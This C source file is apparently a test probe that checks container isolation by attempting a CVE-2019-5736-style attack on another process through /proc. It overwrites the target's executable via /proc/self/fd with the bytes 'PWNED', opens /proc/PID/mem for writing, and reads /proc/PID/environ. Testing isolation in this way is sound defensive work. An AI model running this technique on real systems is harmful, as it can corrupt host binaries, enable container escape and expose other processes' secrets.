/* A container process attacking another process of its container through
 * /proc, as in CVE-2019-5736: `probe attack PID` tries, and reports on
 * stdout, one line each:
 *   exe_link=TARGET      what /proc/PID/exe names (opened O_PATH)
 *   exe_write=...        reopening that fd for writing through
 *                        /proc/self/fd/N and writing 5 bytes at offset 0
 *                        (WROTE, or E<errno> of the open or the write)
 *   mem_write=...        open(/proc/PID/mem, O_RDWR): OPEN or E<errno>
 *                        (nothing is written)
 *   environ=...          reading /proc/PID/environ: READ <bytes> or E<errno>
 * Built static: the container's rootfs has no libc. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void exe(const char *pid) {
    char path[64], self[64], link[4096];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        printf("exe_link=E%d\nexe_write=E%d\n", errno, errno);
        return;
    }
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(self, link, sizeof link - 1);
    link[n < 0 ? 0 : n] = 0;
    printf("exe_link=%s\n", link);
    int w = open(self, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
        printf("exe_write=E%d\n", errno);
        return;
    }
    if (pwrite(w, "PWNED", 5, 0) == 5)
        printf("exe_write=WROTE\n");
    else
        printf("exe_write=E%d\n", errno);
    close(w);
}

static void mem(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        printf("mem_write=E%d\n", errno);
        return;
    }
    printf("mem_write=OPEN\n");
    close(fd);
}

static void environ_(const char *pid) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("environ=E%d\n", errno);
        return;
    }
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0)
        printf("environ=E%d\n", errno);
    else
        printf("environ=READ %zd\n", n);
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 3 || strcmp(argv[1], "attack") != 0) {
        fprintf(stderr, "usage: probe attack PID\n");
        return 2;
    }
    exe(argv[2]);
    mem(argv[2]);
    environ_(argv[2]);
    return 0;
}
